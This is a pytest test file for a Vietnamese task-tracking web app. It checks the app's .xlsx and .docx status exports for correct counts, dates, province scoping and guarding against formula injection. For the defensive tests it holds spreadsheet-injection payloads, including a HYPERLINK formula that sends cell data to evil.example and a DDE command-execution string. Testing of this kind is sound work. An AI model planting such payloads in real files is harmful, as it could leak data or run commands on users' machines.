"""The exports of the status pages: every cell of each .xlsx against the queries, the JSON
of the page and a plain recount; real dates; text never read as a formula; the .docx
report; and no export shows another province's numbers."""
import io
import re
import zipfile
from collections import Counter
from datetime import date, datetime

import pytest
from docx import Document
from openpyxl import load_workbook
from sqlalchemy import select

from tests.conftest import NOW, TODAY, login
from tests.status.test_numbers import recount
from tracker.assignments import operations as ops
from tracker.assignments.models import Assignment
from tracker.assignments.state import STATES, days_overdue, state_of
from tracker.auth.models import User
from tracker.bodies.models import Body
from tracker.directives.models import Directive
from tracker.extensions import db
from tracker.status import exports, overdue, queries
from tracker.status.exports import HEADER_ROW, XLSX_MIMETYPE, filename
from tracker.status.filters import StatusFilters
from tracker.tasks.models import Task

pytestmark = pytest.mark.usefixtures("status_today", "demo_data")
DEMO_PASSWORD = "demo123456"
STATE_ORDER = ("done_on_time", "done_late", "in_progress", "not_started", "overdue")
INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+SUM(1,2)",
              "-2+3", "@SUM(A1)"]


def body(name: str) -> Body:
    return db.session.scalar(select(Body).where(Body.name == name))


def user(email: str) -> User:
    return db.session.scalar(select(User).where(User.email == email))


def signed_in(app, email: str):
    client = app.test_client()
    login(client, user(email), password=DEMO_PASSWORD)
    return client


def workbook_of(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:1000]
    assert response.mimetype == XLSX_MIMETYPE
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;"), disposition
    assert re.fullmatch(r'attachment; filename="?[a-z0-9-]+-2026-11-22\.xlsx"?', disposition), \
        disposition
    return load_workbook(io.BytesIO(response.data))


def table(sheet) -> tuple[list, list[list]]:
    """The header row and the rows below it, as values."""
    rows = [list(r) for r in sheet.iter_rows(min_row=HEADER_ROW, values_only=True)]
    return rows[0], rows[1:]


def assert_top_rows(sheet, title_part: str):
    assert title_part in sheet["A1"].value
    assert sheet["A2"].value.startswith("Bộ lọc:")
    assert "Tính đến ngày 22/11/2026" in sheet["A3"].value
    assert sheet.freeze_panes == f"B{HEADER_ROW + 1}"
    assert sheet.column_dimensions["A"].width >= 6 and sheet.column_dimensions["B"].width > 10


# ---- the status table ------------------------------------------------------------------

FILTERS = [({}, StatusFilters()), ({"year": "2026"}, StatusFilters(year=2026)),
           ({"year": "2026", "half": "2"}, StatusFilters(year=2026, half=2)),
           ({"task_kind": "so_ket"}, StatusFilters(task_kind="so_ket")),
           ({"body_level": "xa"}, StatusFilters(body_level="xa")),
           ({"start": "01/11/2026", "end": "31/12/2026"},
            StatusFilters(start=date(2026, 11, 1), end=date(2026, 12, 31)))]


def expected_name(row) -> str:
    if row.direct:
        return f"Giao trực tiếp cho {row.body.name}"
    return row.body.name + ("" if row.body.active else " (đã sáp nhập)")


@pytest.mark.parametrize("email, node_name", [
    ("trunguong@demo.vn", "Ban Tuyên giáo và Dân vận Trung ương"),
    ("trunguong@demo.vn", "Tỉnh Thái Nguyên"), ("lanhdao.langson@demo.vn", "Tỉnh Lạng Sơn")])
def test_status_table_export_matches_the_page_the_queries_and_a_recount(app, email, node_name):
    client = signed_in(app, email)
    node = body(node_name)
    checked = 0
    for args, filters in FILTERS:
        sheet = workbook_of(client.get(f"/status/bodies/{node.id}/export.xlsx",
                                       query_string=args)).active
        assert_top_rows(sheet, node_name)
        header, cells = table(sheet)
        # The badges' words: one label per state everywhere.
        assert header == ["Đơn vị", "Được giao", "Hoàn thành đúng hạn", "Hoàn thành quá hạn",
                          "Đang thực hiện (trong hạn)", "Chưa thực hiện", "Quá hạn",
                          "% hoàn thành"]
        rows, total = queries.status_rows(node, filters, TODAY)
        shown = sorted((r for r in rows if r.assigned), key=lambda r: (r.direct, r.body.name))
        *body_cells, total_cells = cells
        assert len(body_cells) == len(shown)
        expected = recount(node, filters, TODAY)
        page = client.get(f"/api/v1/stats/bodies/{node.id}", query_string=args).get_json()
        page_rows = [r for r in page["rows"] if r["assigned"]]
        for line, row, json_row in zip(body_cells, shown, page_rows, strict=True):
            numbers = [row.assigned, *(row.counts[c] for c in STATE_ORDER)]
            assert line[0] == expected_name(row)
            assert line[1:7] == numbers
            assert all(type(n) is int for n in line[1:7])
            assert round(line[7] * 100, 1) == row.percent == json_row["percent_done"]
            assert line[1:7] == [json_row["assigned"], *(json_row[c] for c in STATE_ORDER)]
            counts = expected[None if row.direct else row.body.id]
            assert line[2:7] == [counts[c] for c in STATE_ORDER]
            checked += 1
        everything = sum(expected.values(), Counter())
        assert total_cells[0] == "Tổng cộng"
        assert total_cells[1:7] == [total.assigned, *(everything[c] for c in STATE_ORDER)]
        assert round(total_cells[7] * 100, 1) == total.percent == page["total"]["percent_done"]
    assert checked > 10


def test_status_export_keeps_the_sort_and_the_directive_filter(app):
    client = signed_in(app, "trunguong@demo.vn")
    root = body("Ban Tuyên giáo và Dân vận Trung ương")
    directive = db.session.scalar(select(Directive).where(Directive.number == "320-QĐ/TU"))
    sheet = workbook_of(client.get("/status/export.xlsx", query_string={
        "sort": "-assigned", "directive_id": directive.id})).active
    assert "Văn bản: 320-QĐ/TU" in sheet["A2"].value
    _header, cells = table(sheet)
    assigned = [line[1] for line in cells[:-1]]
    assert assigned == sorted(assigned, reverse=True) and sum(assigned) == cells[-1][1]
    expected = recount(root, StatusFilters(directive_id=directive.id), TODAY)
    assert cells[-1][1] == sum(sum(c.values()) for c in expected.values()) > 0


# ---- the other tables ------------------------------------------------------------------

def test_directive_export_has_the_tasks_and_the_matrix(app):
    client = signed_in(app, "chuyenvien.langson@demo.vn")
    actor = user("chuyenvien.langson@demo.vn")
    directive = db.session.scalar(select(Directive).where(Directive.number == "320-QĐ/TU"))
    book = workbook_of(client.get(f"/status/directives/{directive.id}/export.xlsx"))
    assert book.sheetnames == ["Nhiệm vụ", "Đơn vị × nhiệm vụ"]
    tasks, bodies, cells, per_task = queries.directive_matrix(actor, directive, TODAY,
                                                              StatusFilters())
    tasks_sheet, matrix_sheet = book.worksheets
    assert_top_rows(tasks_sheet, "320-QĐ/TU")
    header, lines = table(tasks_sheet)
    assert header[:4] == ["STT", "Nhiệm vụ", "Loại", "Hạn"]
    *task_lines, total = lines
    for index, (line, task) in enumerate(zip(task_lines, tasks, strict=True), 1):
        counts = per_task[task.id]
        assert line[:4] == [index, task.title, task.kind_label,
                            datetime.combine(task.due_on, datetime.min.time())]
        assert line[4:10] == [sum(counts.values()), *(counts[c] for c in STATE_ORDER)]
    assert tasks_sheet.cell(HEADER_ROW + 1, 4).number_format == "dd/mm/yyyy"
    assert total[4] == sum(sum(c.values()) for c in per_task.values()) > 0

    header, lines = table(matrix_sheet)
    assert header == ["Đơn vị", *(f"{i}. {t.title}" for i, t in enumerate(tasks, 1))]
    assert [line[0] for line in lines] == [name for _id, name in bodies]
    for line, (body_id, _name) in zip(lines, bodies, strict=True):
        assert line[1:] == [str(STATES[cells[(body_id, t.id)][1]]) if (body_id, t.id) in cells
                            else "—" for t in tasks]


def overdue_recount(scope: Body) -> list[Assignment]:
    return [a for a in db.session.scalars(select(Assignment).join(Body))
            if state_of(a, TODAY) == "overdue"
            and db.session.get(Body, a.body_id).path.startswith(scope.path)]


def test_overdue_export_has_every_row_and_the_age_filter(app, monkeypatch):
    monkeypatch.setitem(app.config, "PAGE_SIZE", 10)
    client = signed_in(app, "trunguong@demo.vn")
    root = body("Ban Tuyên giáo và Dân vận Trung ương")
    expected = overdue_recount(root)
    assert len(expected) > 10, "the page shows several pages; the export has every row"
    sheet = workbook_of(client.get("/status/overdue/export.xlsx")).active
    assert_top_rows(sheet, "Việc quá hạn")
    header, lines = table(sheet)
    assert header == ["Đơn vị", "Nhiệm vụ", "Văn bản", "Vai trò", "Hạn", "Số ngày quá hạn",
                      "Cập nhật gần nhất"]
    assert len(lines) == len(expected)
    by_key = Counter((db.session.get(Body, a.body_id).name,
                      datetime.combine(a.effective_due_on, datetime.min.time()),
                      days_overdue(a, TODAY)) for a in expected)
    assert Counter((line[0], line[4], line[5]) for line in lines) == by_key
    assert all(isinstance(line[4], datetime) and isinstance(line[6], datetime)
               for line in lines)
    # As on the page: body by body in tree order, the most overdue first within a body.
    paths = {b.id: b.path for b in db.session.scalars(select(Body))}
    in_order = sorted(expected, key=lambda a: (paths[a.body_id], a.effective_due_on, a.id))
    assert [(line[0], line[5]) for line in lines] == [
        (db.session.get(Body, a.body_id).name, days_overdue(a, TODAY)) for a in in_order]

    ages = overdue.overdue_figures(root, TODAY, StatusFilters())[0]
    for age, (low, high) in overdue.AGES.items():
        sheet = workbook_of(client.get("/status/overdue/export.xlsx",
                                       query_string={"age": age})).active
        _header, lines = table(sheet)
        assert len(lines) == ages[age]
        assert all(low <= line[5] <= (high or 10**6) for line in lines)
        assert "Quá hạn:" in sheet["A2"].value


def test_dialogue_export_matches_the_figures(app):
    client = signed_in(app, "chuyenvien.laocai@demo.vn")
    node = body("Tỉnh Lào Cai")
    sheet = workbook_of(client.get(f"/status/bodies/{node.id}/dialogues/export.xlsx")).active
    assert_top_rows(sheet, "Tỉnh Lào Cai")
    figures = queries.dialogue_figures(node, StatusFilters())
    names = {c.id: c.name for c in queries.children_of(node)}
    header, lines = table(sheet)
    assert header[:3] == ["Đơn vị", "Cấp tỉnh: số cuộc", "Cấp tỉnh: số người"]
    *lines, total = lines
    assert sorted(line[0] for line in lines) == sorted(names.get(k, node.name) for k in figures)
    for line in lines:
        [key] = [k for k in figures if names.get(k, node.name) == line[0]]
        per_level = [figures[key].get(level, (0, 0, 0, 0)) for level in ("tinh", "huyen", "xa")]
        assert line[1:7] == [n for v in per_level for n in v[:2]]
        assert line[7:] == [sum(v[i] for v in per_level) for i in range(4)]
    assert total[0] == "Tổng cộng"
    assert total[1:] == [sum(line[i] for line in lines) for i in range(1, len(header))]
    assert total[7] > 0


def test_body_assignments_export_has_every_assignment_of_the_body(app):
    client = signed_in(app, "lanhdao.langson@demo.vn")
    target = body("Ủy ban MTTQ tỉnh Lạng Sơn")
    sheet = workbook_of(client.get(f"/status/bodies/{target.id}/assignments/export.xlsx")).active
    assert_top_rows(sheet, target.name)
    expected = list(db.session.scalars(select(Assignment).where(Assignment.body_id == target.id)))
    tasks = {t.id: t for t in db.session.scalars(select(Task))}
    header, lines = table(sheet)
    assert header[:5] == ["Nhiệm vụ", "Văn bản", "Vai trò", "Hạn", "Tình trạng"]
    assert len(lines) == len(expected) > 0
    assert Counter((line[0], line[3], line[4], line[5], line[6]) for line in lines) == Counter(
        (tasks[a.task_id].title, datetime.combine(a.effective_due_on, datetime.min.time()),
         str(STATES[state_of(a, TODAY)]), days_overdue(a, TODAY), a.progress)
        for a in expected)
    done = [line for line in lines if line[4].startswith("Hoàn thành")]
    assert done and all(isinstance(line[7], datetime) for line in done)


# ---- text is never a formula -----------------------------------------------------------

@pytest.fixture
def hostile(make_body, make_user, make_directive, make_task):
    """A province whose body, task and directive names look like formulas."""
    province = make_body("Tỉnh Thử Nghiệm")
    bodies = [make_body(name, parent=province, kind="so_nganh") for name in INJECTIONS]
    coordinator = make_user("coordinator", body=province)
    directive = make_directive(actor=coordinator, number="=1+1-CT/TU")
    task = make_task(directive=directive, actor=coordinator, title="=HYPERLINK(\"x\",\"y\")",
                     due_on=date(2026, 10, 31))
    from tracker.tasks.operations import assign_bodies
    assignments = assign_bodies(task, bodies, lead=bodies[0], due_on=None, actor=coordinator,
                                now=NOW)
    officer = make_user("officer", body=bodies[0])
    ops.set_figure(assignments[0], {"name": "=cmd|' /C calc'!A0", "unit": "cuộc", "value": 3},
                   actor=officer, now=NOW)
    db.session.commit()
    return province, bodies, directive, coordinator


def _no_formula_anywhere(data: bytes):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_text_that_looks_like_a_formula_stays_text(app, hostile):
    province, bodies, directive, coordinator = hostile
    client = login(app.test_client(), coordinator)
    urls = [f"/status/bodies/{province.id}/export.xlsx", "/status/overdue/export.xlsx",
            f"/status/directives/{directive.id}/export.xlsx",
            f"/status/bodies/{bodies[0].id}/assignments/export.xlsx"]
    seen = set()
    for url in urls:
        response = client.get(url)
        _no_formula_anywhere(response.data)
        for sheet in workbook_of(response).worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value[:1] in "=+-@\t\r":
                        assert cell.data_type == "s" and cell.quotePrefix, (url, cell.value)
                        seen.add(cell.value)
    assert set(INJECTIONS) <= seen
    assert {'=HYPERLINK("x","y")', "=1+1-CT/TU"} <= seen

    report = client.get(f"/status/directives/{directive.id}/report.docx")
    text = docx_text(report)
    assert INJECTIONS[0] in text and "=cmd|' /C calc'!A0: 3 cuộc" in text


def test_a_leading_tab_or_carriage_return_is_guarded_too():
    """Names are trimmed when saved, so these only reach the sheet builder directly."""
    book = exports.new_workbook()
    values = ["\t=1+1", "\r=1+1", "=1+1", "a = b", "Sở Nội vụ"]
    exports.add_sheet(book, "x", title="=1+1", lines=["-1", "@x"],
                      columns=[exports.Column("=h", 10)], rows=[[v] for v in values])
    data = exports.to_bytes(book).getvalue()
    _no_formula_anywhere(data)
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=1)]
    guarded = {c.value: c.quotePrefix for c in cells if c.value is not None}
    assert guarded == {"=1+1": True, "-1": True, "@x": True, "=h": True, "\t=1+1": True,
                       "\r=1+1": True, "a = b": False, "Sở Nội vụ": False}
    assert all(c.data_type == "s" for c in cells if c.value is not None)


# ---- the .docx report ------------------------------------------------------------------

def docx_text(response) -> str:
    assert response.status_code == 200, response.get_data(as_text=True)[:1000]
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["Content-Disposition"].endswith(".docx")
    document = Document(io.BytesIO(response.data))
    parts = [p.text for p in document.paragraphs]
    for table_ in document.tables:
        for row in table_.rows:
            parts.extend(cell.text for cell in row.cells)
    return "\n".join(parts)


def test_directive_report_names_the_directive_each_body_and_the_totals(app):
    client = signed_in(app, "chuyenvien.langson@demo.vn")
    actor = user("chuyenvien.langson@demo.vn")
    directive = db.session.scalar(select(Directive).where(Directive.number == "320-QĐ/TU"))
    response = client.get(f"/status/directives/{directive.id}/report.docx")
    assert "bao-cao-320-qd-tu-2026-11-22.docx" in response.headers["Content-Disposition"]
    text = docx_text(response)
    tasks, bodies, _cells, per_task = queries.directive_matrix(actor, directive, TODAY,
                                                               StatusFilters())
    total = sum((per_task[t.id] for t in tasks), Counter())
    done, assigned = total["done_on_time"] + total["done_late"], sum(total.values())
    for expected in ("TỈNH LẠNG SƠN", "BAN TUYÊN GIÁO VÀ DÂN VẬN", "ĐẢNG CỘNG SẢN VIỆT NAM",
                     "Lạng Sơn, ngày 22 tháng 11 năm 2026", "BÁO CÁO",
                     f"Kết quả thực hiện {directive.citation}", "I. TÌNH HÌNH TRIỂN KHAI",
                     "II. KẾT QUẢ THỰC HIỆN", "III. ĐÁNH GIÁ CHUNG", "Tồn tại, hạn chế",
                     "IV. PHƯƠNG HƯỚNG, NHIỆM VỤ THỜI GIAN TỚI", "Nơi nhận:",
                     "T/M BAN TUYÊN GIÁO VÀ DÂN VẬN", "320-QĐ/TU",
                     f"đã hoàn thành {done}/{assigned} lượt nhiệm vụ",
                     f"đúng hạn {total['done_on_time']}",
                     f"quá hạn chưa hoàn thành {total['overdue']}"):
        assert expected in text, expected
    for _id, name in bodies:
        assert name in text
    for task in tasks:
        assert task.title in text


def test_a_province_reports_a_central_directive_under_its_own_name(app):
    client = signed_in(app, "chuyenvien.langson@demo.vn")
    directive = db.session.scalar(select(Directive).where(Directive.number == "290-QĐ/TW"))
    text = docx_text(client.get(f"/status/directives/{directive.id}/report.docx"))
    assert "TỈNH LẠNG SƠN" in text and "Tỉnh Lào Cai" not in text


# ---- scope -----------------------------------------------------------------------------

def export_urls(node: Body, directive: Directive, unit: Body) -> list[str]:
    return [f"/status/bodies/{node.id}/export.xlsx",
            f"/status/bodies/{node.id}/dialogues/export.xlsx",
            f"/status/bodies/{unit.id}/assignments/export.xlsx",
            f"/status/directives/{directive.id}/export.xlsx",
            f"/status/directives/{directive.id}/report.docx"]


def test_no_export_shows_another_province(app):
    lang_son = body("Tỉnh Lạng Sơn")
    directive = db.session.scalar(select(Directive).where(Directive.number == "320-QĐ/TU",
                                                          Directive.owner_body_id == lang_son.id))
    urls = export_urls(lang_son, directive, body("Ủy ban MTTQ tỉnh Lạng Sơn"))
    outsider = signed_in(app, "chuyenvien.laocai@demo.vn")
    for url in urls:
        assert outsider.get(url).status_code == 404, url
        assert outsider.get(url, query_string={"year": "2026"}).status_code == 404, url
    leader = signed_in(app, "lanhdao.langson@demo.vn")
    for url in urls:
        assert leader.get(url).status_code == 200, url

    # The exports without a node are the user's own scope: nothing from Lạng Sơn.
    lang_son_names = {b.name for b in db.session.scalars(
        select(Body).where(Body.path.startswith(lang_son.path)))}
    for url in ("/status/export.xlsx", "/status/overdue/export.xlsx",
                "/status/dialogues/export.xlsx"):
        sheet = workbook_of(outsider.get(url)).active
        _header, lines = table(sheet)
        assert lines, url
        assert not {line[0] for line in lines} & lang_son_names, url
    # A central directive read by Lào Cai lists only Lào Cai's bodies.
    central = db.session.scalar(select(Directive).where(Directive.number == "290-QĐ/TW"))
    book = workbook_of(outsider.get(f"/status/directives/{central.id}/export.xlsx"))
    _header, lines = table(book.worksheets[1])
    assert not {line[0] for line in lines} & lang_son_names
    text = docx_text(outsider.get(f"/status/directives/{central.id}/report.docx"))
    assert not any(name in text for name in lang_son_names)


def test_file_names_are_ascii():
    assert filename("tinh hinh Tỉnh Đắk Lắk", date(2026, 11, 22), "xlsx") == \
        "tinh-hinh-tinh-dak-lak-2026-11-22.xlsx"
    assert filename("bao cao 80-KH/BDVTU-BCSĐ", date(2026, 1, 2), "docx") == \
        "bao-cao-80-kh-bdvtu-bcsd-2026-01-02.docx"
    assert filename("…", date(2026, 1, 2), "xlsx") == "bao-cao-2026-01-02.xlsx"


def test_the_report_is_headed_as_the_party_writes_it(app):
    """Hướng dẫn 36-HD/VPTW: the superior committee, the committee and the Ban on the left,
    the number's symbol of the Ban; the central Ban under the Central Committee."""
    directive = db.session.scalar(select(Directive).where(Directive.number == "290-QĐ/TW"))
    url = f"/status/directives/{directive.id}/report.docx"
    text = docx_text(signed_in(app, "chuyenvien.laocai@demo.vn").get(url))
    head = text  # docx_text reads the header's table with the others
    for line in ("ĐẢNG BỘ TỈNH LÀO CAI", "TỈNH ỦY LÀO CAI", "BAN TUYÊN GIÁO VÀ DÂN VẬN",
                 "-BC/BTGDVTU", "ĐẢNG CỘNG SẢN VIỆT NAM", "Lào Cai, ngày"):
        assert line in head, line
    assert "BAN DÂN VẬN\n" not in head
    text = docx_text(signed_in(app, "chuyenvien.trunguong@demo.vn").get(url))
    head = text
    assert "BAN CHẤP HÀNH TRUNG ƯƠNG" in head and "-BC/BTGDVTW" in head
    assert "ĐẢNG BỘ" not in head
